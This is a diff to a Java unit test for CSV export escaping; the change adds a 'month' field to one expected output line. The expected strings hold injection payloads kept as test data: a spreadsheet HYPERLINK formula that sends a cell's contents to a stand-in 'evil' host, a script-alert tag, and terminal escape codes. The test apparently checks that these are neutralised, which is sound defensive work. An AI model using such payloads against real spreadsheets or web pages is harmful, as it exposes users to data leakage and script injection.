@@ -57,7 +57,7 @@ class EscapesApiTest {
                 .contains(",2023,-5.5,percent,")
                 .contains(",\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1)\",")
                 .contains(
-                        ",'@SUM(1+1)  line2\uFFFD[31mRED \uFFFDgnp.exe  \uFFFD <script>alert(1)</script> 😀,2023-01-01,2023-12-31\n");
+                        ",'@SUM(1+1)  line2\uFFFD[31mRED \uFFFDgnp.exe  \uFFFD <script>alert(1)</script> 😀,2023-01-01,2023-12-31,month\n");
     }
 
     @Test
